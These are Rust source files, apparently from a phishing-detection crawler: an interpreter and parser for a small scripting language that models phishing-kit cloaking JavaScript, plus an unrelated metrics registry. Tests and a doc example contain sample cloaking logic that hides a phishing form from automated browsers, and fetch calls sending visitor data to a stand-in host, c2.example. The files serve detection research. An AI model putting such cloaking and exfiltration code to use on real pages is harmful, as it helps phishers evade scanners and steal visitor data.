                    self.exec_block(then_branch, host)?;
                } else {
                    self.exec_block(else_branch, host)?;
                }
            }
            Stmt::While { cond, body } => {
                while self.eval(cond, host)?.truthy() {
                    self.tick()?;
                    self.exec_block(body, host)?;
                }
            }
            Stmt::Debugger => host.debugger_hit(),
        }
        Ok(())
    }

    fn eval(&mut self, expr: &Expr, host: &mut dyn Host) -> Result<Value, ScriptError> {
        self.tick()?;
        match expr {
            Expr::Number(n) => Ok(Value::Num(*n)),
            Expr::Str(s) => Ok(Value::Str(s.clone())),
            Expr::Bool(b) => Ok(Value::Bool(*b)),
            Expr::Null => Ok(Value::Null),
            Expr::Ident(name) => {
                if let Some(v) = self.vars.get(name) {
                    return Ok(v.clone());
                }
                host.global(name)
                    .ok_or_else(|| ScriptError::UndefinedVariable(name.clone()))
            }
            Expr::Member { object, prop } => {
                let obj = self.eval(object, host)?;
                match obj {
                    Value::Ref(tag) => host.get_prop(&tag, prop),
                    Value::Str(s) if prop == "length" => Ok(Value::Num(s.chars().count() as f64)),
                    other => Err(ScriptError::TypeError(format!(
                        "cannot read {prop} of {other}"
                    ))),
                }
            }
            Expr::Call { callee, args } => {
                let arg_values: Vec<Value> = args
                    .iter()
                    .map(|a| self.eval(a, host))
                    .collect::<Result<_, _>>()?;
                match &**callee {
                    Expr::Ident(name) => host.call_global(name, &arg_values),
                    Expr::Member { object, prop } => {
                        let obj = self.eval(object, host)?;
                        match obj {
                            Value::Ref(tag) => host.call_method(&tag, prop, &arg_values),
                            Value::Str(s) => eval_string_method(&s, prop, &arg_values),
                            other => Err(ScriptError::TypeError(format!(
                                "cannot call {prop} on {other}"
                            ))),
                        }
                    }
                    _ => Err(ScriptError::TypeError("callee is not callable".into())),
                }
            }
            Expr::Binary { op, lhs, rhs } => self.eval_binary(*op, lhs, rhs, host),
            Expr::Not(inner) => Ok(Value::Bool(!self.eval(inner, host)?.truthy())),
            Expr::Neg(inner) => {
                let v = self.eval(inner, host)?;
                v.as_num()
                    .map(|n| Value::Num(-n))
                    .ok_or_else(|| ScriptError::TypeError(format!("cannot negate {v}")))
            }
        }
    }

    fn eval_binary(
        &mut self,
        op: BinOp,
        lhs: &Expr,
        rhs: &Expr,
        host: &mut dyn Host,
    ) -> Result<Value, ScriptError> {
        // Short-circuit forms first.
        match op {
            BinOp::And => {
                let l = self.eval(lhs, host)?;
                return if l.truthy() { self.eval(rhs, host) } else { Ok(l) };
            }
            BinOp::Or => {
                let l = self.eval(lhs, host)?;
                return if l.truthy() { Ok(l) } else { self.eval(rhs, host) };
            }
            _ => {}
        }
        let l = self.eval(lhs, host)?;
        let r = self.eval(rhs, host)?;
        let num_op = |f: fn(f64, f64) -> f64| -> Result<Value, ScriptError> {
            match (l.as_num(), r.as_num()) {
                (Some(a), Some(b)) => Ok(Value::Num(f(a, b))),
                _ => Err(ScriptError::TypeError(format!(
                    "arithmetic on non-numbers ({l}, {r})"
                ))),
            }
        };
        let cmp = |f: fn(f64, f64) -> bool| -> Result<Value, ScriptError> {
            match (&l, &r) {
                (Value::Str(a), Value::Str(b)) => {
                    // lexicographic like JS string comparison
                    let ord = a.cmp(b);
                    let as_nums = match ord {
                        std::cmp::Ordering::Less => (-1.0, 0.0),
                        std::cmp::Ordering::Equal => (0.0, 0.0),
                        std::cmp::Ordering::Greater => (1.0, 0.0),
                    };
                    Ok(Value::Bool(f(as_nums.0, as_nums.1)))
                }
                _ => match (l.as_num(), r.as_num()) {
                    (Some(a), Some(b)) => Ok(Value::Bool(f(a, b))),
                    _ => Ok(Value::Bool(false)),
                },
            }
        };
        match op {
            BinOp::Add => {
                if matches!(l, Value::Str(_)) || matches!(r, Value::Str(_)) {
                    Ok(Value::Str(format!("{}{}", l.as_str(), r.as_str())))
                } else {
                    num_op(|a, b| a + b)
                }
            }
            BinOp::Sub => num_op(|a, b| a - b),
            BinOp::Mul => num_op(|a, b| a * b),
            BinOp::Div => num_op(|a, b| a / b),
            BinOp::Mod => num_op(|a, b| a % b),
            BinOp::Eq => Ok(Value::Bool(l.loose_eq(&r))),
            BinOp::Ne => Ok(Value::Bool(!l.loose_eq(&r))),
            BinOp::Lt => cmp(|a, b| a < b),
            BinOp::Le => cmp(|a, b| a <= b),
            BinOp::Gt => cmp(|a, b| a > b),
            BinOp::Ge => cmp(|a, b| a >= b),
            BinOp::And | BinOp::Or => unreachable!("handled above"),
        }
    }
}

/// Built-in string methods used by real cloaking scripts (UA substring
/// checks, token slicing, case folds).
fn eval_string_method(s: &str, method: &str, args: &[Value]) -> Result<Value, ScriptError> {
    match method {
        "indexOf" => {
            let needle = args.first().map(|v| v.as_str()).unwrap_or_default();
            Ok(Value::Num(match s.find(&needle) {
                Some(byte_pos) => s[..byte_pos].chars().count() as f64,
                None => -1.0,
            }))
        }
        "includes" => {
            let needle = args.first().map(|v| v.as_str()).unwrap_or_default();
            Ok(Value::Bool(s.contains(&needle)))
        }
        "startsWith" => {
            let needle = args.first().map(|v| v.as_str()).unwrap_or_default();
            Ok(Value::Bool(s.starts_with(&needle)))
        }
        "endsWith" => {
            let needle = args.first().map(|v| v.as_str()).unwrap_or_default();
            Ok(Value::Bool(s.ends_with(&needle)))
        }
        "toLowerCase" => Ok(Value::Str(s.to_lowercase())),
        "toUpperCase" => Ok(Value::Str(s.to_uppercase())),
        "trim" => Ok(Value::Str(s.trim().to_string())),
        "slice" | "substring" => {
            let chars: Vec<char> = s.chars().collect();
            let len = chars.len() as f64;
            let norm = |v: f64| -> usize {
                let idx = if v < 0.0 { (len + v).max(0.0) } else { v.min(len) };
                idx as usize
            };
            let start = norm(args.first().and_then(|v| v.as_num()).unwrap_or(0.0));
            let end = norm(args.get(1).and_then(|v| v.as_num()).unwrap_or(len));
            Ok(Value::Str(
                chars[start.min(chars.len())..end.max(start).min(chars.len())]
                    .iter()
                    .collect(),
            ))
        }
        "charAt" => {
            let i = args.first().and_then(|v| v.as_num()).unwrap_or(0.0) as usize;
            Ok(Value::Str(
                s.chars().nth(i).map(String::from).unwrap_or_default(),
            ))
        }
        "split" => Err(ScriptError::TypeError(
            "split is not supported (no array values in MJS)".into(),
        )),
        other => Err(ScriptError::UnknownFunction(format!("String.{other}"))),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::hosts::RecordingHost;

    fn run_src(src: &str, host: &mut RecordingHost) -> Result<(), ScriptError> {
        let script = Script::parse(src).unwrap();
        run(&script, host)
    }

    #[test]
    fn arithmetic_and_variables() {
        let mut h = RecordingHost::new();
        run_src("var a = 2 + 3 * 4; console.log(a);", &mut h).unwrap();
        assert_eq!(h.console_lines(), ["14"]);
    }

    #[test]
    fn string_concatenation() {
        let mut h = RecordingHost::new();
        run_src("console.log('ua=' + 7);", &mut h).unwrap();
        assert_eq!(h.console_lines(), ["ua=7"]);
    }

    #[test]
    fn if_else_on_host_env() {
        let mut h = RecordingHost::new();
        h.set_env("navigator.webdriver", Value::Bool(true));
        run_src(
            "if (navigator.webdriver) { document.write('benign'); } else { document.write('phish'); }",
            &mut h,
        )
        .unwrap();
        assert_eq!(h.writes(), ["benign"]);
    }

    #[test]
    fn while_loop_accumulates() {
        let mut h = RecordingHost::new();
        run_src(
            "var i = 0; var s = ''; while (i < 3) { s = s + i; i = i + 1; } console.log(s);",
            &mut h,
        )
        .unwrap();
        assert_eq!(h.console_lines(), ["012"]);
    }

    #[test]
    fn infinite_loop_hits_budget() {
        let mut h = RecordingHost::new();
        let e = run_src("while (true) { debugger; }", &mut h).unwrap_err();
        assert_eq!(e, ScriptError::BudgetExhausted);
        assert!(h.debugger_hits() > 1000);
    }

    #[test]
    fn short_circuit_does_not_evaluate_rhs() {
        let mut h = RecordingHost::new();
        // fetch would record; short-circuit must skip it
        run_src("var x = false && fetch('https://c2.example/');", &mut h).unwrap();
        assert!(h.fetches().is_empty());
        run_src("var y = true || fetch('https://c2.example/');", &mut h).unwrap();
        assert!(h.fetches().is_empty());
    }

    #[test]
    fn method_chain_via_host() {
        let mut h = RecordingHost::new();
        h.set_env("intl.timeZone", Value::from("Europe/Paris"));
        run_src(
            "var tz = Intl.DateTimeFormat().resolvedOptions().timeZone; console.log(tz);",
            &mut h,
        )
        .unwrap();
        assert_eq!(h.console_lines(), ["Europe/Paris"]);
    }

    #[test]
    fn string_methods() {
        let mut h = RecordingHost::new();
        h.set_env("navigator.userAgent", Value::from("Mozilla/5.0 HeadlessChrome/119"));
        run_src(
            r#"
            var ua = navigator.userAgent;
            if (ua.indexOf('HeadlessChrome') >= 0) { document.write('bot'); }
            console.log(ua.toLowerCase().includes('headless'));
            console.log(ua.slice(0, 7));
            "#,
            &mut h,
        )
        .unwrap();
        assert_eq!(h.writes(), ["bot"]);
        assert_eq!(h.console_lines(), ["true", "Mozilla"]);
    }

    #[test]
    fn string_length_property() {
        let mut h = RecordingHost::new();
        run_src("console.log('abcd'.length);", &mut h).unwrap();
        assert_eq!(h.console_lines(), ["4"]);
    }

    #[test]
    fn undefined_variable_is_error() {
        let mut h = RecordingHost::new();
        assert_eq!(
            run_src("var a = nosuchthing;", &mut h),
            Err(ScriptError::UndefinedVariable("nosuchthing".into()))
        );
    }

    #[test]
    fn member_write_reaches_host() {
        let mut h = RecordingHost::new();
        run_src("console.log = 'hijacked'; location.href = 'https://next.example/';", &mut h)
            .unwrap();
        assert_eq!(
            h.prop_writes(),
            [
                ("console".to_string(), "log".to_string(), "hijacked".to_string()),
                (
                    "location".to_string(),
                    "href".to_string(),
                    "https://next.example/".to_string()
                )
            ]
        );
    }

    #[test]
    fn atob_btoa_round_trip() {
        let mut h = RecordingHost::new();
        run_src(
            "var enc = btoa('secret payload'); var dec = atob(enc); console.log(dec);",
            &mut h,
        )
        .unwrap();
        assert_eq!(h.console_lines(), ["secret payload"]);
    }

    #[test]
    fn fetch_records_url_and_body() {
        let mut h = RecordingHost::new();
        h.set_env("navigator.userAgent", Value::from("UA"));
        run_src("fetch('https://c2.example/collect', navigator.userAgent);", &mut h).unwrap();
        assert_eq!(
            h.fetches(),
            [("https://c2.example/collect".to_string(), "UA".to_string())]
        );
    }

    #[test]
    fn comparison_on_strings() {
        let mut h = RecordingHost::new();
        run_src("console.log('abc' == 'abc'); console.log('a' < 'b');", &mut h).unwrap();
        assert_eq!(h.console_lines(), ["true", "true"]);
    }

    #[test]
    fn negative_numbers_and_unary_not() {
        let mut h = RecordingHost::new();
        run_src("console.log(-3 + 5); console.log(!0);", &mut h).unwrap();
        assert_eq!(h.console_lines(), ["2", "true"]);
    }

    #[test]
    fn type_error_on_bad_negation() {
        let mut h = RecordingHost::new();
        assert!(matches!(
            run_src("var x = -'abc';", &mut h),
            Err(ScriptError::TypeError(_))
        ));
    }
}
