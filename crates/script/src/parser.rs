//! Recursive-descent / Pratt parser for MJS.

use crate::ast::{BinOp, Expr, Script, Stmt};
use crate::lexer::{lex, LexError, Token};
use std::fmt;

/// Maximum expression/statement nesting depth. Hostile page scripts with
/// thousands of nested parentheses must produce an error, not a stack
/// overflow that aborts the whole crawler process.
pub const MAX_NESTING: usize = 256;

/// A parse failure.
#[derive(Debug, Clone, PartialEq)]
pub enum ParseError {
    /// Tokenization failed.
    Lex(LexError),
    /// Unexpected token (or end of input).
    Unexpected {
        /// What was found, or `None` at end of input.
        found: Option<Token>,
        /// What the parser wanted.
        expected: &'static str,
    },
    /// Assignment to something that is not an identifier or member.
    BadAssignTarget,
    /// Nesting exceeded [`MAX_NESTING`].
    TooDeep,
}

impl fmt::Display for ParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ParseError::Lex(e) => write!(f, "{e}"),
            ParseError::Unexpected { found, expected } => match found {
                Some(t) => write!(f, "unexpected token {t:?}, expected {expected}"),
                None => write!(f, "unexpected end of input, expected {expected}"),
            },
            ParseError::BadAssignTarget => write!(f, "invalid assignment target"),
            ParseError::TooDeep => write!(f, "nesting exceeds {MAX_NESTING}"),
        }
    }
}

impl std::error::Error for ParseError {}

impl From<LexError> for ParseError {
    fn from(e: LexError) -> Self {
        ParseError::Lex(e)
    }
}

/// Parse MJS source into a [`Script`].
///
/// # Errors
///
/// Returns [`ParseError`] on malformed input.
pub fn parse(src: &str) -> Result<Script, ParseError> {
    let tokens = lex(src)?;
    let mut p = Parser {
        tokens,
        pos: 0,
        depth: 0,
    };
    let mut stmts = Vec::new();
    while !p.at_end() {
        stmts.push(p.statement()?);
    }
    Ok(Script { stmts })
}

struct Parser {
    tokens: Vec<Token>,
    pos: usize,
    depth: usize,
}

impl Parser {
    fn at_end(&self) -> bool {
        self.pos >= self.tokens.len()
    }

    fn enter(&mut self) -> Result<(), ParseError> {
        self.depth += 1;
        if self.depth > MAX_NESTING {
            Err(ParseError::TooDeep)
        } else {
            Ok(())
        }
    }

    fn leave(&mut self) {
        self.depth -= 1;
    }

    fn peek(&self) -> Option<&Token> {
        self.tokens.get(self.pos)
    }

    fn advance(&mut self) -> Option<Token> {
        let t = self.tokens.get(self.pos).cloned();
        self.pos += 1;
        t
    }

    fn eat(&mut self, tok: &Token) -> bool {
        if self.peek() == Some(tok) {
            self.pos += 1;
            true
        } else {
            false
        }
    }

    fn expect(&mut self, tok: Token, what: &'static str) -> Result<(), ParseError> {
        if self.eat(&tok) {
            Ok(())
        } else {
            Err(ParseError::Unexpected {
                found: self.peek().cloned(),
                expected: what,
            })
        }
    }

    fn statement(&mut self) -> Result<Stmt, ParseError> {
        self.enter()?;
        let result = self.statement_inner();
        self.leave();
        result
    }

    fn statement_inner(&mut self) -> Result<Stmt, ParseError> {
        match self.peek() {
            Some(Token::Var) => {
                self.advance();
                let name = self.ident("variable name")?;
                let init = if self.eat(&Token::Assign) {
                    self.expression(0)?
                } else {
                    Expr::Null
                };
                self.eat(&Token::Semi);
                Ok(Stmt::VarDecl { name, init })
            }
            Some(Token::If) => {
                self.advance();
                self.expect(Token::LParen, "( after if")?;
                let cond = self.expression(0)?;
                self.expect(Token::RParen, ") after condition")?;
                let then_branch = self.block_or_single()?;
                let else_branch = if self.eat(&Token::Else) {
                    if self.peek() == Some(&Token::If) {
                        vec![self.statement()?]
                    } else {
                        self.block_or_single()?
                    }
                } else {
                    Vec::new()
                };
                Ok(Stmt::If {
                    cond,
                    then_branch,
                    else_branch,
                })
            }
            Some(Token::While) => {
                self.advance();
                self.expect(Token::LParen, "( after while")?;
                let cond = self.expression(0)?;
                self.expect(Token::RParen, ") after condition")?;
                let body = self.block_or_single()?;
                Ok(Stmt::While { cond, body })
            }
            Some(Token::Debugger) => {
                self.advance();
                self.eat(&Token::Semi);
                Ok(Stmt::Debugger)
            }
            _ => {
                let expr = self.expression(0)?;
                if self.eat(&Token::Assign) {
                    if !matches!(expr, Expr::Ident(_) | Expr::Member { .. }) {
                        return Err(ParseError::BadAssignTarget);
                    }
                    let value = self.expression(0)?;
                    self.eat(&Token::Semi);
                    Ok(Stmt::Assign {
                        target: expr,
                        value,
                    })
                } else {
                    self.eat(&Token::Semi);
                    Ok(Stmt::Expr(expr))
                }
            }
        }
    }

    fn block_or_single(&mut self) -> Result<Vec<Stmt>, ParseError> {
        if self.eat(&Token::LBrace) {
            let mut stmts = Vec::new();
            while self.peek() != Some(&Token::RBrace) {
                if self.at_end() {
                    return Err(ParseError::Unexpected {
                        found: None,
                        expected: "} to close block",
                    });
                }
                stmts.push(self.statement()?);
            }
            self.expect(Token::RBrace, "} to close block")?;
            Ok(stmts)
        } else {
            Ok(vec![self.statement()?])
        }
    }

    fn ident(&mut self, what: &'static str) -> Result<String, ParseError> {
        match self.advance() {
            Some(Token::Ident(name)) => Ok(name),
            found => Err(ParseError::Unexpected {
                found,
                expected: what,
            }),
        }
    }

    /// Pratt expression parser with binding powers.
    fn expression(&mut self, min_bp: u8) -> Result<Expr, ParseError> {
        self.enter()?;
        let result = self.expression_inner(min_bp);
        self.leave();
        result
    }

    fn expression_inner(&mut self, min_bp: u8) -> Result<Expr, ParseError> {
        let mut lhs = self.prefix()?;
        loop {
            let (op, bp) = match self.peek() {
                Some(Token::Or) => (BinOp::Or, 1),
                Some(Token::And) => (BinOp::And, 2),
                Some(Token::Eq) => (BinOp::Eq, 3),
                Some(Token::Ne) => (BinOp::Ne, 3),
                Some(Token::Lt) => (BinOp::Lt, 4),
                Some(Token::Le) => (BinOp::Le, 4),
                Some(Token::Gt) => (BinOp::Gt, 4),
                Some(Token::Ge) => (BinOp::Ge, 4),
                Some(Token::Plus) => (BinOp::Add, 5),
                Some(Token::Minus) => (BinOp::Sub, 5),
                Some(Token::Star) => (BinOp::Mul, 6),
                Some(Token::Slash) => (BinOp::Div, 6),
                Some(Token::Percent) => (BinOp::Mod, 6),
                _ => break,
            };
            if bp < min_bp {
                break;
            }
            self.advance();
            let rhs = self.expression(bp + 1)?;
            lhs = Expr::Binary {
                op,
                lhs: Box::new(lhs),
                rhs: Box::new(rhs),
            };
        }
        Ok(lhs)
    }

    fn prefix(&mut self) -> Result<Expr, ParseError> {
        self.enter()?;
        let result = self.prefix_guarded();
        self.leave();
        result
    }

    fn prefix_guarded(&mut self) -> Result<Expr, ParseError> {
        let expr = match self.advance() {
            Some(Token::Number(n)) => Expr::Number(n),
            Some(Token::Str(s)) => Expr::Str(s),
            Some(Token::True) => Expr::Bool(true),
            Some(Token::False) => Expr::Bool(false),
            Some(Token::Null) => Expr::Null,
            Some(Token::Ident(name)) => Expr::Ident(name),
            Some(Token::Not) => return Ok(Expr::Not(Box::new(self.prefix_postfix()?))),
            Some(Token::Minus) => return Ok(Expr::Neg(Box::new(self.prefix_postfix()?))),
            Some(Token::LParen) => {
                let inner = self.expression(0)?;
                self.expect(Token::RParen, ") to close group")?;
                inner
            }
            found => {
                return Err(ParseError::Unexpected {
                    found,
                    expected: "expression",
                })
            }
        };
        self.postfix(expr)
    }

    fn prefix_postfix(&mut self) -> Result<Expr, ParseError> {
        let e = self.prefix()?;
        Ok(e)
    }

    /// Member access and calls bind tightest: `a.b.c(d).e`.
    fn postfix(&mut self, mut expr: Expr) -> Result<Expr, ParseError> {
        loop {
            if self.eat(&Token::Dot) {
                let prop = self.ident("property name")?;
                expr = Expr::Member {
                    object: Box::new(expr),
                    prop,
                };
            } else if self.eat(&Token::LParen) {
                let mut args = Vec::new();
                if self.peek() != Some(&Token::RParen) {
                    loop {
                        args.push(self.expression(0)?);
                        if !self.eat(&Token::Comma) {
                            break;
                        }
                    }
                }
                self.expect(Token::RParen, ") to close call")?;
                expr = Expr::Call {
                    callee: Box::new(expr),
                    args,
                };
            } else {
                break;
            }
        }
        Ok(expr)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn var_decl_with_init() {
        let s = parse("var ua = navigator.userAgent;").unwrap();
        assert_eq!(s.stmts.len(), 1);
        match &s.stmts[0] {
            Stmt::VarDecl { name, init } => {
                assert_eq!(name, "ua");
                assert!(matches!(init, Expr::Member { .. }));
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn precedence_and_over_or() {
        let s = parse("var x = a || b && c;").unwrap();
        let Stmt::VarDecl { init, .. } = &s.stmts[0] else {
            panic!()
        };
        // Expect Or(a, And(b, c))
        match init {
            Expr::Binary { op: BinOp::Or, rhs, .. } => {
                assert!(matches!(**rhs, Expr::Binary { op: BinOp::And, .. }));
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn arithmetic_precedence() {
        let s = parse("var x = 1 + 2 * 3;").unwrap();
        let Stmt::VarDecl { init, .. } = &s.stmts[0] else {
            panic!()
        };
        match init {
            Expr::Binary { op: BinOp::Add, rhs, .. } => {
                assert!(matches!(**rhs, Expr::Binary { op: BinOp::Mul, .. }));
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn method_chains_parse() {
        let s = parse("var tz = Intl.DateTimeFormat().resolvedOptions().timeZone;").unwrap();
        let Stmt::VarDecl { init, .. } = &s.stmts[0] else {
            panic!()
        };
        // member(call(member(call(member(Intl, DateTimeFormat)), resolvedOptions)), timeZone)
        let Expr::Member { prop, object } = init else {
            panic!("{init:?}")
        };
        assert_eq!(prop, "timeZone");
        assert!(matches!(**object, Expr::Call { .. }));
    }

    #[test]
    fn if_else_chain() {
        let s = parse("if (a) { b(); } else if (c) { d(); } else { e(); }").unwrap();
        let Stmt::If { else_branch, .. } = &s.stmts[0] else {
            panic!()
        };
        assert_eq!(else_branch.len(), 1);
        assert!(matches!(else_branch[0], Stmt::If { .. }));
    }

    #[test]
    fn single_statement_bodies() {
        let s = parse("if (a) b(); else c();").unwrap();
        let Stmt::If {
            then_branch,
            else_branch,
            ..
        } = &s.stmts[0]
        else {
            panic!()
        };
        assert_eq!(then_branch.len(), 1);
        assert_eq!(else_branch.len(), 1);
    }

    #[test]
    fn member_assignment() {
        let s = parse("console.log = myHijack;").unwrap();
        assert!(matches!(
            &s.stmts[0],
            Stmt::Assign {
                target: Expr::Member { .. },
                ..
            }
        ));
    }

    #[test]
    fn bad_assignment_target_rejected() {
        assert_eq!(parse("1 + 2 = 3;"), Err(ParseError::BadAssignTarget));
    }

    #[test]
    fn while_loop() {
        let s = parse("while (i < 10) { i = i + 1; }").unwrap();
        assert!(matches!(&s.stmts[0], Stmt::While { .. }));
    }

    #[test]
    fn debugger_statement() {
        let s = parse("debugger; debugger;").unwrap();
        assert_eq!(s.stmts, vec![Stmt::Debugger, Stmt::Debugger]);
    }

    #[test]
    fn unary_operators() {
        let s = parse("var a = !b; var c = -d;").unwrap();
        assert!(matches!(
            &s.stmts[0],
            Stmt::VarDecl {
                init: Expr::Not(_),
                ..
            }
        ));
        assert!(matches!(
            &s.stmts[1],
            Stmt::VarDecl {
                init: Expr::Neg(_),
                ..
            }
        ));
    }

    #[test]
    fn unclosed_block_errors() {
        assert!(parse("if (a) { b();").is_err());
    }

    #[test]
    fn call_with_multiple_args() {
        let s = parse("fetch('https://c2.example', data, 3);").unwrap();
        let Stmt::Expr(Expr::Call { args, .. }) = &s.stmts[0] else {
            panic!()
        };
        assert_eq!(args.len(), 3);
    }

    #[test]
    fn not_applies_to_member_chain() {
        let s = parse("var hidden = !navigator.webdriver;").unwrap();
        let Stmt::VarDecl { init, .. } = &s.stmts[0] else {
            panic!()
        };
        let Expr::Not(inner) = init else {
            panic!("{init:?}")
        };
        assert!(matches!(**inner, Expr::Member { .. }));
    }
}

#[cfg(test)]
mod review_regressions {
    use super::*;

    #[test]
    fn deep_parentheses_error_instead_of_stack_overflow() {
        let src = format!("var a = {}1{};", "(".repeat(100_000), ")".repeat(100_000));
        assert_eq!(parse(&src), Err(ParseError::TooDeep));
    }

    #[test]
    fn deep_unary_chains_error() {
        let src = format!("var a = {}1;", "!".repeat(100_000));
        assert_eq!(parse(&src), Err(ParseError::TooDeep));
    }

    #[test]
    fn deep_nested_blocks_error() {
        let src = format!(
            "{}var a = 1;{}",
            "if (1) { ".repeat(100_000),
            "}".repeat(100_000)
        );
        assert_eq!(parse(&src), Err(ParseError::TooDeep));
    }

    #[test]
    fn reasonable_nesting_still_parses() {
        let src = format!("var a = {}1{};", "(".repeat(50), ")".repeat(50));
        assert!(parse(&src).is_ok());
    }
}
