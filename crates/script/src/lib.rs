#![warn(missing_docs)]

//! MJS — the mini scripting language phishing kits embed in their pages.
//!
//! The paper's client-side cloaking is all JavaScript: user-agent /
//! timezone / language gates, console-method hijacking, `debugger`-timer
//! probes, AJAX exfiltration of visitor data, tokenized-URL victim checks,
//! base64-decoded payload injection (§V-C2). Reproducing those decision
//! points does not require V8 — it requires a language with the same
//! *observable host surface*. MJS is that language: a C-like expression
//! grammar (Pratt parser) with `var`/`if`/`while`, strings, numbers,
//! booleans, and member/method access routed to a [`Host`] trait the
//! browser implements (`navigator.userAgent`, `console.log(...)`,
//! `fetch(...)`, `Intl.DateTimeFormat().resolvedOptions().timeZone`, …).
//!
//! The substitution is documented in `DESIGN.md` §4: cloaking verdicts are
//! functions of the environment values a script reads and the calls it
//! makes, both of which MJS reproduces faithfully.
//!
//! # Example
//!
//! ```
//! use cb_script::{run, Script, hosts::RecordingHost, Value};
//!
//! let src = r#"
//!     var ua = navigator.userAgent;
//!     if (navigator.webdriver == true) {
//!         document.write("benign content");
//!     } else {
//!         fetch("https://c2.example/log", ua);
//!         document.write("phish form");
//!     }
//! "#;
//! let script = Script::parse(src).unwrap();
//! let mut host = RecordingHost::new();
//! host.set_env("navigator.userAgent", Value::from("Mozilla/5.0 Chrome"));
//! host.set_env("navigator.webdriver", Value::Bool(false));
//! run(&script, &mut host).unwrap();
//! assert_eq!(host.writes(), ["phish form"]);
//! assert_eq!(host.fetches().len(), 1);
//! ```

pub mod ast;
pub mod interp;
pub mod lexer;
pub mod parser;
pub mod value;

pub mod hosts;

pub use ast::Script;
pub use interp::{run, Host, ScriptError};
pub use value::Value;
