//! Named counters, gauges and fixed-bucket sim-time histograms.
//!
//! The registry is the successor to the ad-hoc `ScanStats` atomics: every
//! instrument is registered under a stable name with a [`Determinism`]
//! class, hot paths update pre-fetched cloneable handles (an atomic add, no
//! map lookup), and the whole registry exports to JSON with
//! deterministically ordered keys.
//!
//! Like trace fields, metrics split along the determinism contract:
//! `Deterministic` instruments are pure functions of `(seed, config)` and
//! appear in canonical exports; `Advisory` instruments (steal counts,
//! shared-cache traffic, residency peaks) depend on thread interleaving and
//! only appear in full exports.

use crate::json::{push_int_array, push_str_literal};
use crate::ExportMode;
use std::collections::BTreeMap;
use std::fmt::Write;
use std::sync::atomic::{AtomicI64, AtomicU64, Ordering};
use std::sync::{Arc, RwLock};

/// Whether an instrument's value is covered by the determinism contract.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Determinism {
    /// Pure function of `(seed, config)`; included in canonical exports.
    Deterministic,
    /// Depends on thread interleaving; full exports only.
    Advisory,
}

/// Monotonic counter handle. Clones share the same underlying value.
#[derive(Debug, Clone, Default)]
pub struct CounterHandle(Arc<AtomicU64>);

impl CounterHandle {
    /// A counter not (yet) attached to a registry.
    pub fn standalone() -> Self {
        Self::default()
    }

    /// Add `n`.
    pub fn add(&self, n: u64) {
        self.0.fetch_add(n, Ordering::Relaxed);
    }

    /// Add one.
    pub fn incr(&self) {
        self.add(1);
    }

    /// Current value.
    pub fn get(&self) -> u64 {
        self.0.load(Ordering::Relaxed)
    }
}

#[derive(Debug, Default)]
struct GaugeInner {
    level: AtomicU64,
    peak: AtomicU64,
}

/// Level + high-watermark gauge handle. Clones share the same value.
#[derive(Debug, Clone, Default)]
pub struct GaugeHandle(Arc<GaugeInner>);

impl GaugeHandle {
    /// A gauge not (yet) attached to a registry.
    pub fn standalone() -> Self {
        Self::default()
    }

    /// Raise the level by `n`, updating the peak; returns the new level.
    pub fn add(&self, n: u64) -> u64 {
        let now = self.0.level.fetch_add(n, Ordering::Relaxed) + n;
        self.0.peak.fetch_max(now, Ordering::Relaxed);
        now
    }

    /// Lower the level by `n` (saturating).
    pub fn sub(&self, n: u64) {
        let _ = self
            .0
            .level
            .fetch_update(Ordering::Relaxed, Ordering::Relaxed, |v| Some(v.saturating_sub(n)));
    }

    /// Fold a sampled value into the peak without touching the level (for
    /// gauges whose level is tracked elsewhere).
    pub fn note(&self, value: u64) {
        self.0.peak.fetch_max(value, Ordering::Relaxed);
    }

    /// Current level.
    pub fn level(&self) -> u64 {
        self.0.level.load(Ordering::Relaxed)
    }

    /// Highest level (or noted value) seen.
    pub fn peak(&self) -> u64 {
        self.0.peak.load(Ordering::Relaxed)
    }
}

#[derive(Debug)]
struct HistInner {
    /// Inclusive upper bounds of all but the overflow bucket.
    bounds: Vec<i64>,
    /// `bounds.len() + 1` buckets; the last is the overflow bucket.
    counts: Vec<AtomicU64>,
    total: AtomicU64,
    sum: AtomicI64,
}

/// Fixed-bucket histogram handle for sim-time quantities (seconds, depths,
/// byte counts). Clones share the same value.
#[derive(Debug, Clone)]
pub struct HistogramHandle(Arc<HistInner>);

impl HistogramHandle {
    /// A histogram with the given inclusive bucket upper bounds (an
    /// overflow bucket is added automatically). Bounds must ascend.
    pub fn with_bounds(bounds: &[i64]) -> Self {
        debug_assert!(bounds.windows(2).all(|w| w[0] < w[1]), "histogram bounds must ascend");
        let counts = (0..=bounds.len()).map(|_| AtomicU64::new(0)).collect();
        HistogramHandle(Arc::new(HistInner {
            bounds: bounds.to_vec(),
            counts,
            total: AtomicU64::new(0),
            sum: AtomicI64::new(0),
        }))
    }

    /// Record one observation.
    pub fn observe(&self, value: i64) {
        let idx =
            self.0.bounds.iter().position(|b| value <= *b).unwrap_or(self.0.bounds.len());
        self.0.counts[idx].fetch_add(1, Ordering::Relaxed);
        self.0.total.fetch_add(1, Ordering::Relaxed);
        self.0.sum.fetch_add(value, Ordering::Relaxed);
    }

    /// Number of observations.
    pub fn count(&self) -> u64 {
        self.0.total.load(Ordering::Relaxed)
    }

    /// Sum of observations.
    pub fn sum(&self) -> i64 {
        self.0.sum.load(Ordering::Relaxed)
    }

    /// Bucket upper bounds (without the overflow bucket).
    pub fn bounds(&self) -> Vec<i64> {
        self.0.bounds.clone()
    }

    /// Per-bucket counts, overflow bucket last.
    pub fn bucket_counts(&self) -> Vec<u64> {
        self.0.counts.iter().map(|c| c.load(Ordering::Relaxed)).collect()
    }
}

#[derive(Debug, Clone)]
enum Instrument {
    Counter(CounterHandle),
    Gauge(GaugeHandle),
    Histogram(HistogramHandle),
}

impl Instrument {
    fn kind(&self) -> &'static str {
        match self {
            Instrument::Counter(_) => "counter",
            Instrument::Gauge(_) => "gauge",
            Instrument::Histogram(_) => "histogram",
        }
    }
}

/// The registry: name → (determinism class, instrument). Registration is
/// get-or-create, so independent components can share an instrument by
/// agreeing on its name.
#[derive(Debug, Default)]
pub struct MetricsRegistry {
    entries: RwLock<BTreeMap<String, (Determinism, Instrument)>>,
}

